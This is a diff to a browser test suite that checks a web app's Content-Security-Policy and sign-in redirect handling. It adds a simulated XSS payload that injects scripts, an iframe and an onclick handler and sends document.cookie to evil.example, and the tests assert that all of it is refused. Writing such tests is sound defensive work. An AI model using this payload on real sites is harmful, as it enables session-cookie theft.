@@ -1,7 +1,7 @@
 """What keeps a browser safe: no script of anybody else's, nothing from elsewhere, no other site's forms and frames."""
 
 from collections.abc import Iterator
-from urllib.parse import urlsplit
+from urllib.parse import unquote, urlsplit
 
 import pytest
 from playwright.async_api import expect
@@ -17,6 +17,12 @@ from tests.browser.world import Newcomer
 from tests.upstream.serving import served
 
 pytestmark = [pytest.mark.anyio, pytest.mark.real_chromium]
+
+
+EVERY_KIND = (
+    "/", "/sign-in", "/keys", "/keys/new", "/keys/key_nothing/block", "/usage", "/teams", "/teams/platform", "/models",
+    "/audit", "/admin", "/admin/configuration", "/nowhere", "/api/litellm/docs",
+)  # fmt: skip
 
 
 async def make_in_dialog(visit: Visit, alias: str) -> None:
@@ -46,7 +52,7 @@ def foreign_site() -> Iterator[str]:
 
 
 async def test_pages_forbid_scripts_and_everything_from_elsewhere(as_jane: Visit) -> None:
-    for path in ("/", "/sign-in", "/keys/key_nothing/block"):
+    for path in EVERY_KIND:
         answer = await as_jane.page.request.get(path)
         policy = answer.headers["content-security-policy"]
         directives = {part.split()[0]: part.split()[1:] for part in policy.split(";")}
@@ -57,6 +63,42 @@ async def test_pages_forbid_scripts_and_everything_from_elsewhere(as_jane: Visit
         assert directives["frame-ancestors"] == ["'none'"]
         assert "unsafe-inline" not in policy
         assert answer.headers["cache-control"] == "no-store"
+
+
+SMUGGLED = """() => {
+  const main = document.querySelector("main");
+  window.refused = [];
+  document.addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
+  const put = (name, members) => main.append(Object.assign(document.createElement(name), members));
+  put("script", { textContent: "document.body.id = 'owned'" });
+  put("script", { src: "http://evil.example/x.js" });
+  put("style", { textContent: "body { opacity: 0.5 }" });
+  put("img", { src: "http://evil.example/x.png" });
+  put("iframe", { src: "http://evil.example/" });
+  main.insertAdjacentHTML("beforeend", `<b id="trap" onclick="document.body.id = 'owned'" style="color: red">x</b>`);
+  document.querySelector("#trap").click();
+  return fetch("http://evil.example/?" + document.cookie).then(() => "sent", () => "refused");
+}"""
+"""What somebody would put into a page who found a place where it is not escaped."""
+REFUSED = [
+    "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "connect-src", "frame-src",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "path", ["/", "/keys", "/usage", "/teams/platform", "/audit", "/admin/configuration"]
+)
+async def test_markup_that_got_into_a_page_would_do_nothing(as_jane: Visit, path: str) -> None:
+    await as_jane.page.goto(path)
+    assert await as_jane.page.evaluate(SMUGGLED) == "refused"
+    await as_jane.page.wait_for_function("kinds => kinds.every(kind => refused.includes(kind))", arg=REFUSED)
+    assert await as_jane.page.evaluate("document.body.id") == ""
+    assert await as_jane.page.evaluate("getComputedStyle(document.body).opacity") == "1"
+    assert [
+        request.url for request in as_jane.requests if "evil" in request.url and request.failure is None
+    ] == []
+    as_jane.complaints.clear()
+    as_jane.requests.clear()
 
 
 async def test_pages_have_no_script_within_and_need_nothing_from_elsewhere(
@@ -146,5 +188,10 @@ async def session_of(visit: Visit) -> str:
 )
 async def test_a_sign_in_leads_nowhere_else(visit: Visit, away: str) -> None:
     await visit.page.goto(f"/sign-in?next={away}")
+    assert await visit.page.locator("form[action='/sign-in'] [name=next]").first.get_attribute("value") == "/"
+    # A form that was tampered with on its way leads nowhere else either.
+    await visit.page.locator("form[action='/sign-in'] [name=next]").evaluate_all(
+        "(fields, away) => fields.forEach(field => { field.value = away })", unquote(away)
+    )
     await visit.press("Jane Doe")
     assert urlsplit(visit.page.url).netloc == urlsplit(visit.origin).netloc
